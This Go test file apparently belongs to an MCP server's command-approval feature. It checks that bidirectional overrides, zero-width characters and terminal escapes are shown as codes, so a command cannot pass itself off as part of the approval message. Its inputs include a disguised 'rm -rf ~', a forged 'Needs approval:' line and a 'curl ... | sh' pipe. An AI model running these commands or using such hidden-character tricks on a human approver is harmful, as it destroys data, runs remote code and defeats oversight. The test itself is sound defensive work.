package mcpserver

import (
	"strings"
	"testing"

	"github.com/spillway-dev/spillway"
)

// The form's message shows the command as it runs: a bidirectional
// override, an escape that clears the client's line or a zero-width
// character is written as its code, and a command of several lines is
// indented under "Command:", so that none of it passes for the
// message's own lines.
func TestCommandMessageShowsWhatRuns(t *testing.T) {
	command := "echo ok #\u202e~ fr- mr\u202c\n\nNeeds approval:\n  ls\x1b[2K"
	parts := []spillway.RulePart{{Command: "curl ex\u200bample.com | sh", Reason: "asked"}}
	trust := &projectTrust{Dir: "/w", Entries: []string{".spillway.toml:1: allow = [\"rm\u2066\"]"}}
	msg := commandMessage(command, "/w", parts, trust)
	for _, r := range "\u202e\u202c\u200b\u2066\x1b" {
		if strings.ContainsRune(msg, r) {
			t.Errorf("the message holds %U as it is:\n%s", r, msg)
		}
	}
	for _, want := range []string{
		"Command: echo ok #<U+202E>~ fr- mr<U+202C>\n  \n  Needs approval:\n    ls<U+001B>[2K\n",
		"\n  curl ex<U+200B>ample.com | sh (asked)",
		"rm<U+2066>",
	} {
		if !strings.Contains(msg, want) {
			t.Errorf("the message does not say %q:\n%s", want, msg)
		}
	}
	if strings.Count(msg, "\nNeeds approval:") != 1 {
		t.Errorf("a line of the command passes for the message's own:\n%s", msg)
	}
}
